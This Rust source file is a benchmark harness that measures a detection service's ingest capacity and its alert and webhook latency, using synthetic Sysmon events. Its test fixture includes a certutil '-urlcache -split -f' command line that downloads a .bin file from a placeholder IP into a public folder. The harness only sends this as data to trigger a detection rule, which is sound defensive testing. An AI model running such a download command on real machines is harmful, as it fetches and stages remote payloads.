//! `service-bench`: a running `vedette run` (the embedded default: embedded log,
//! Parquet store, bundled rules) measured from the outside, over HTTP on loopback.
//!
//! ```text
//! service-bench --vedette target/release/vedette [--seconds 15] [--connections 4]
//! ```
//!
//! 1. **Capacity**: `--connections` agents post requests of 500 Sysmon process-creation
//!    events (hosts and command lines varied, none matching a bundled rule) as fast as
//!    the service answers, for `--seconds`; then the harness waits until every accepted
//!    event is stored. The maximum sustained rate is the accepted events divided by the
//!    time until the last of them was stored (ingest, bus, detection and storage all
//!    keep up at that rate on average).
//! 2. **Latency at half that rate**: one agent sends the same events paced at half the
//!    capacity (a request every 50 ms) and, every 100 ms, one event that the bundled
//!    certutil rule matches (a new host each time). The harness polls `/metrics` every
//!    2 ms; the time from the answer to that event's request (durable: accepted) to the
//!    moment the stored-alerts counter passes it is the latency, p50 / p99 / max.
//!    The service also has a responder: a webhook receiver in the harness, on loopback,
//!    notes when each alert's signed delivery arrives (matched by the alert's host), so
//!    the same run gives the latency from accepted to webhook delivered.
//!
//! Also reported: the process's CPU time and peak RSS (`/proc/<pid>`).
//!
//! Clustered: `--kafka BROKERS --clickhouse URL [--nodes N]` runs N nodes with one
//! cluster config (Kafka bus with fresh topics, ClickHouse store in a fresh database);
//! agents spread their requests over the nodes, and the counters are summed over them.

use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use anyhow::{bail, Context};
use clap::Parser;
use vedette_bench::http::{free_addr, percentile, usage};

/// The allocator of the `vedette` binary, so costs compare.
#[global_allocator]
static GLOBAL: mimalloc::MiMalloc = mimalloc::MiMalloc;

/// Admin token the harness starts the service with.
const TOKEN: &str = "service-bench-admin-token-0123456789";
/// Events per request in the background flow.
const PER_REQUEST: usize = 500;
/// Signing secret of the harness's webhook receiver.
const WEBHOOK_SECRET: &str = "service-bench-webhook-secret-0123";

/// When the delivery of the alert on host `lat-{n}` arrived, by `n`.
type Deliveries = Arc<Mutex<std::collections::HashMap<u64, Instant>>>;

/// A webhook receiver on loopback that notes when the delivery of each `lat-{n}`
/// host's alert arrived. Returns its address.
fn receiver(deliveries: Deliveries) -> anyhow::Result<SocketAddr> {
    vedette_bench::http::webhook_receiver_with(move |body, arrived| {
        let host = body
            .split("\"host\":\"lat-")
            .nth(1)
            .and_then(|rest| rest.split('.').next())
            .and_then(|n| n.parse::<u64>().ok());
        if let (Some(n), Ok(mut d)) = (host, deliveries.lock()) {
            d.entry(n).or_insert(arrived);
        }
    })
}

/// Command line.
#[derive(Parser)]
struct Args {
    /// The `vedette` binary to run (a release build).
    #[arg(long, default_value = "target/release/vedette")]
    vedette: PathBuf,
    /// Seconds of each phase.
    #[arg(long, default_value_t = 15)]
    seconds: u64,
    /// Concurrent agents in the capacity phase.
    #[arg(long, default_value_t = 4)]
    connections: usize,
    /// Kafka bootstrap brokers: the clustered mode (with `--clickhouse`).
    #[arg(long)]
    kafka: Option<String>,
    /// ClickHouse URL: the clustered mode (with `--kafka`).
    #[arg(long)]
    clickhouse: Option<String>,
    /// Vedette nodes (more than one needs the clustered mode).
    #[arg(long, default_value_t = 1)]
    nodes: usize,
}

/// The bus and store sections of the nodes' config: empty for the embedded default.
fn cluster_sections(args: &Args) -> anyhow::Result<String> {
    let tag = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)?
        .as_millis();
    match (&args.kafka, &args.clickhouse) {
        (None, None) if args.nodes == 1 => Ok(String::new()),
        (Some(brokers), Some(url)) => Ok(format!(
            "[bus]\nkind = \"kafka\"\n[bus.kafka]\nbrokers = [\"{brokers}\"]\ntopic_prefix = \"bench{tag}\"\n\
             group = \"bench{tag}\"\npartitions = 4\nreplication_factor = 1\n\
             [store]\nkind = \"clickhouse\"\n[store.clickhouse]\nurl = \"{url}\"\ndatabase = \"bench{tag}\"\n"
        )),
        _ => bail!("the clustered mode needs both --kafka and --clickhouse"),
    }
}

/// The sum over `nodes` of the metric `name`.
fn total_of(nodes: &[SocketAddr], name: &str) -> anyhow::Result<u64> {
    let mut sum = 0;
    for addr in nodes {
        sum += metric(&metrics(*addr)?, name);
    }
    Ok(sum)
}

/// One HTTP/1.1 request on a new connection; the status and body.
fn request(
    addr: SocketAddr,
    method: &str,
    path: &str,
    body: &[u8],
) -> anyhow::Result<(u16, String)> {
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(2))?;
    s.set_read_timeout(Some(Duration::from_secs(30)))?;
    s.set_nodelay(true)?;
    let head = format!(
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nAuthorization: Bearer {TOKEN}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    s.write_all(head.as_bytes())?;
    s.write_all(body)?;
    let raw = vedette_core::io::read_capped(&mut s, 64 << 20)?;
    let text = String::from_utf8_lossy(&raw).into_owned();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|v| v.parse().ok())
        .with_context(|| format!("no status in {text:?}"))?;
    let body = text
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_string())
        .unwrap_or_default();
    Ok((status, body))
}

/// The value of the metric line starting with `name` (0 when absent).
fn metric(text: &str, name: &str) -> u64 {
    text.lines()
        .find(|l| l.starts_with(name))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse::<f64>().ok())
        .map_or(0, |v| v as u64)
}

fn metrics(addr: SocketAddr) -> anyhow::Result<String> {
    let (status, body) = request(addr, "GET", "/metrics", b"")?;
    if status != 200 {
        bail!("/metrics answered {status}");
    }
    Ok(body)
}

/// `n` benign Sysmon process creations, varied by `seed`.
fn benign(seed: u64, n: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(n * 300);
    for i in 0..n as u64 {
        let k = seed.wrapping_mul(1_000_003).wrapping_add(i);
        out.extend_from_slice(
            format!(
                "{{\"EventID\": 1, \"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"Computer\": \"ws-{:04}.corp.example\", \"TimeCreated_SystemTime\": \"2026-11-28T10:00:00.000Z\", \"ProcessId\": {}, \"Image\": \"C:\\\\Program Files\\\\App{}\\\\app.exe\", \"CommandLine\": \"app.exe --job {} --mode sync\", \"ParentImage\": \"C:\\\\Windows\\\\explorer.exe\", \"User\": \"CORP\\\\user{}\"}}\n",
                k % 2000,
                1000 + k % 60000,
                k % 40,
                k,
                k % 500
            )
            .as_bytes(),
        );
    }
    out
}

/// One event the bundled certutil rule matches, on host `n`.
fn certutil(n: u64) -> Vec<u8> {
    format!(
        "{{\"EventID\": 1, \"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"Computer\": \"lat-{n}.corp.example\", \"TimeCreated_SystemTime\": \"2026-11-28T10:00:00.000Z\", \"ProcessId\": 4242, \"Image\": \"C:\\\\Windows\\\\System32\\\\certutil.exe\", \"CommandLine\": \"certutil.exe -urlcache -split -f http://203.0.113.9/{n}.bin c:\\\\users\\\\public\\\\{n}.exe\", \"ParentImage\": \"C:\\\\Windows\\\\System32\\\\cmd.exe\", \"User\": \"CORP\\\\bench\"}}\n"
    )
    .into_bytes()
}

fn ingest(addr: SocketAddr, body: &[u8]) -> anyhow::Result<()> {
    let (status, answer) = request(addr, "POST", "/v1/ingest?format=windows-json", body)?;
    if status != 200 {
        bail!("ingest answered {status}: {answer}");
    }
    Ok(())
}

struct Service {
    child: Child,
    addr: SocketAddr,
    _dir: tempfile::TempDir,
}

impl Drop for Service {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start(vedette: &PathBuf, webhook: SocketAddr, sections: &str) -> anyhow::Result<Service> {
    let dir = tempfile::tempdir()?;
    let (addr, udp, tcp) = (free_addr()?, free_addr()?, free_addr()?);
    std::fs::write(
        dir.path().join("v.toml"),
        format!(
            "data_dir = \"{}/data\"\n[log]\nlevel = \"warn\"\n[http]\nrate_per_token = 0.0\n[ingest.syslog]\nudp_addr = \"{udp}\"\ntcp_addr = \"{tcp}\"\n\
             [[responders]]\nname = \"bench\"\nurl = \"http://{webhook}/hook\"\nsecret_env = \"VEDETTE_BENCH_WEBHOOK_SECRET\"\ninsecure_http = true\n{sections}",
            dir.path().display()
        ),
    )?;
    let child = Command::new(vedette)
        .args(["run", "--config"])
        .arg(dir.path().join("v.toml"))
        .args(["--http-addr", &addr.to_string()])
        .env("VEDETTE_ADMIN_TOKEN", TOKEN)
        .env("VEDETTE_BENCH_WEBHOOK_SECRET", WEBHOOK_SECRET)
        .stdout(Stdio::null())
        .stderr(Stdio::inherit())
        .spawn()
        .with_context(|| format!("starting {}", vedette.display()))?;
    let service = Service {
        child,
        addr,
        _dir: dir,
    };
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(30) {
        if let Ok((200, _)) = request(addr, "GET", "/health", b"") {
            return Ok(service);
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    bail!("vedette did not become healthy")
}

fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    let deliveries: Deliveries = Arc::default();
    let webhook = receiver(deliveries.clone())?;
    let sections = cluster_sections(&args)?;
    let services = (0..args.nodes.max(1))
        .map(|_| start(&args.vedette, webhook, &sections))
        .collect::<anyhow::Result<Vec<Service>>>()?;
    let nodes: Vec<SocketAddr> = services.iter().map(|s| s.addr).collect();
    let pids: Vec<u32> = services.iter().map(|s| s.child.id()).collect();
    let usage_all = || {
        pids.iter()
            .map(|p| usage(*p))
            .fold((0.0, 0.0), |(c, r), (c1, r1)| (c + c1, f64::max(r, r1)))
    };
    println!(
        "service-bench: {} ({} node(s), {}), {} s phases, {} connections",
        args.vedette.display(),
        nodes.len(),
        if sections.is_empty() {
            "embedded"
        } else {
            "kafka + clickhouse"
        },
        args.seconds,
        args.connections
    );

    // 1. Capacity.
    let accepted = Arc::new(AtomicU64::new(0));
    let stop = Arc::new(AtomicBool::new(false));
    let t0 = Instant::now();
    let senders: Vec<_> = (0..args.connections)
        .map(|c| {
            let (accepted, stop) = (accepted.clone(), stop.clone());
            let addr = nodes[c % nodes.len()];
            std::thread::spawn(move || -> anyhow::Result<()> {
                let mut seed = c as u64 * 1_000_000;
                while !stop.load(Ordering::Relaxed) {
                    ingest(addr, &benign(seed, PER_REQUEST))?;
                    accepted.fetch_add(PER_REQUEST as u64, Ordering::Relaxed);
                    seed += 1;
                }
                Ok(())
            })
        })
        .collect();
    std::thread::sleep(Duration::from_secs(args.seconds));
    stop.store(true, Ordering::Relaxed);
    for s in senders {
        s.join()
            .map_err(|_| anyhow::anyhow!("a sender panicked"))??;
    }
    let sent_for = t0.elapsed();
    let total = accepted.load(Ordering::Relaxed);
    loop {
        if total_of(&nodes, "vedette_ledger_stored_total{table=\"events\"}")? >= total
            && total_of(&nodes, "vedette_detect_events_total")? >= total
        {
            break;
        }
        if t0.elapsed() > sent_for + Duration::from_secs(600) {
            bail!("the service did not store the accepted events within 10 minutes");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let done = t0.elapsed();
    let capacity = total as f64 / done.as_secs_f64();
    println!(
        "capacity: {total} events accepted in {:.1} s ({:.0} ev/s at the door), all stored after {:.1} s: max sustained {:.0} events/s",
        sent_for.as_secs_f64(),
        total as f64 / sent_for.as_secs_f64(),
        done.as_secs_f64(),
        capacity
    );
    let (cpu_after_capacity, _) = usage_all();

    // 2. Latency at half the capacity.
    let half = capacity / 2.0;
    let per_tick = ((half * 0.05).round() as usize).max(1);
    let base = total_of(&nodes, "vedette_ledger_stored_total{table=\"alerts\"}")?;
    let accepted_at: Arc<Mutex<Vec<Instant>>> = Arc::new(Mutex::new(Vec::new()));
    let stored_at: Arc<Mutex<Vec<Instant>>> = Arc::new(Mutex::new(Vec::new()));
    let stop = Arc::new(AtomicBool::new(false));
    let watcher = {
        let (stored_at, stop, nodes) = (stored_at.clone(), stop.clone(), nodes.clone());
        std::thread::spawn(move || -> anyhow::Result<()> {
            let mut seen = base;
            while !stop.load(Ordering::Relaxed) {
                let now = total_of(&nodes, "vedette_ledger_stored_total{table=\"alerts\"}")?;
                let at = Instant::now();
                if now > seen {
                    let mut s = stored_at.lock().map_err(|_| anyhow::anyhow!("poisoned"))?;
                    for _ in seen..now {
                        s.push(at);
                    }
                    seen = now;
                }
                std::thread::sleep(Duration::from_millis(2));
            }
            Ok(())
        })
    };
    let background = {
        let (stop, nodes) = (stop.clone(), nodes.clone());
        std::thread::spawn(move || -> anyhow::Result<()> {
            let mut next = Instant::now();
            let mut seed: u64 = 9_000_000_000;
            while !stop.load(Ordering::Relaxed) {
                ingest(nodes[seed as usize % nodes.len()], &benign(seed, per_tick))?;
                seed += 1;
                next += Duration::from_millis(50);
                if let Some(wait) = next.checked_duration_since(Instant::now()) {
                    std::thread::sleep(wait);
                }
            }
            Ok(())
        })
    };
    let phase = Instant::now();
    let mut n = 0u64;
    let mut next = Instant::now();
    while phase.elapsed() < Duration::from_secs(args.seconds) {
        ingest(nodes[n as usize % nodes.len()], &certutil(n))?;
        accepted_at
            .lock()
            .map_err(|_| anyhow::anyhow!("poisoned"))?
            .push(Instant::now());
        n += 1;
        next += Duration::from_millis(100);
        if let Some(wait) = next.checked_duration_since(Instant::now()) {
            std::thread::sleep(wait);
        }
    }
    // Let the last alerts land and their deliveries arrive.
    let deadline = Instant::now() + Duration::from_secs(30);
    let delivered = || deliveries.lock().map(|d| d.len()).unwrap_or(0);
    while (stored_at
        .lock()
        .map_err(|_| anyhow::anyhow!("poisoned"))?
        .len()
        < n as usize
        || delivered() < n as usize)
        && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(10));
    }
    stop.store(true, Ordering::Relaxed);
    background
        .join()
        .map_err(|_| anyhow::anyhow!("panicked"))??;
    watcher.join().map_err(|_| anyhow::anyhow!("panicked"))??;
    let accepted_at = accepted_at
        .lock()
        .map_err(|_| anyhow::anyhow!("poisoned"))?
        .clone();
    let stored_at = stored_at
        .lock()
        .map_err(|_| anyhow::anyhow!("poisoned"))?
        .clone();
    if stored_at.len() < accepted_at.len() {
        bail!(
            "{} alerts expected, {} stored",
            accepted_at.len(),
            stored_at.len()
        );
    }
    let mut latencies: Vec<Duration> = accepted_at
        .iter()
        .zip(&stored_at)
        .map(|(a, s)| s.saturating_duration_since(*a))
        .collect();
    latencies.sort();
    let ms = |d: Duration| d.as_secs_f64() * 1000.0;
    let (cpu, rss) = usage_all();
    println!(
        "latency accepted -> alert stored at {:.0} events/s ({} alerts): p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms",
        per_tick as f64 * 20.0,
        latencies.len(),
        ms(percentile(&latencies, 0.5)),
        ms(percentile(&latencies, 0.99)),
        ms(*latencies.last().unwrap_or(&Duration::ZERO))
    );
    let arrived = deliveries
        .lock()
        .map_err(|_| anyhow::anyhow!("poisoned"))?
        .clone();
    let mut to_webhook: Vec<Duration> = accepted_at
        .iter()
        .enumerate()
        .filter_map(|(i, a)| Some(arrived.get(&(i as u64))?.saturating_duration_since(*a)))
        .collect();
    if to_webhook.len() < accepted_at.len() {
        bail!(
            "{} deliveries expected, {} arrived",
            accepted_at.len(),
            to_webhook.len()
        );
    }
    to_webhook.sort();
    println!(
        "latency accepted -> webhook delivered ({} deliveries): p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms",
        to_webhook.len(),
        ms(percentile(&to_webhook, 0.5)),
        ms(percentile(&to_webhook, 0.99)),
        ms(*to_webhook.last().unwrap_or(&Duration::ZERO))
    );
    println!(
        "process: {cpu_after_capacity:.1} CPU s after the capacity phase, {cpu:.1} CPU s in all, peak RSS {rss:.0} MiB"
    );
    Ok(())
}
